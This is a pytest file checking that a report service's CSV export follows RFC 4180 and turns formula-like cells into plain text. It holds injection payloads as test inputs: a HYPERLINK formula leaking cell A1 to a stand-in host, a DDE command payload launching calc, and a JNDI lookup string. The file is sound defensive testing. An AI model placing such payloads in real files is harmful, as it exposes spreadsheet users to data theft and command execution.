"""A report as CSV: RFC 4180, and no cell that a spreadsheet would run."""

import csv
from io import StringIO

import msgspec
import pytest

from services.api.reports.csv_form import COLUMNS, cell, report_csv
from services.api.reports.examples import REPORT
from services.api.reports.forms import Report


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x/?"&A1,"invoice")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "--1",
        "@SUM(1)",
        "\tx",
        "\r=1",
        "\n=1",
        "  =1",
        "\uff1d1",
        "-",
    ],
)
def test_what_could_be_a_formula_becomes_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-0.5", "12", "0.975", "ticket:T-9", "T-1", "a=b", "${jndi:x}"])
def test_numbers_and_other_texts_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize(
    ("value", "text"), [(None, ""), (True, "true"), (False, "false"), (0, "0")]
)
def test_values_that_are_no_text(value: object, text: str) -> None:
    assert cell(value) == text


def test_every_row_has_every_column_and_is_read_back_as_it_was() -> None:
    members = msgspec.json.decode(msgspec.json.encode(REPORT))
    window = members["objectives"][0]["windows"][0]
    window["group"] = {"team": 'a "b", c\r\nd', "customer": "=1+1"}
    members["objectives"][0]["breaches"][0]["item"] = "ticket:=1\n2"
    text = report_csv(msgspec.convert(members, Report))
    assert text.startswith(",".join(COLUMNS) + "\r\n")
    assert text.endswith("\r\n")
    rows = read(text)
    assert [row["record"] for row in rows] == ["report", "window", "revision", "breach"]
    assert all(None not in row and list(row) == list(COLUMNS) for row in rows)
    assert rows[1]["group"] == '{"team":"a \\"b\\", c\\r\\nd","customer":"=1+1"}'
    assert rows[1]["value"] == "0.975"
    assert rows[1]["met"] == "39"
    assert rows[1]["count"] == ""
    assert rows[2]["cause"] == "final"
    assert rows[3]["item"] == "ticket:=1\n2"
    assert rows[3]["lasted_s"] == "5400"
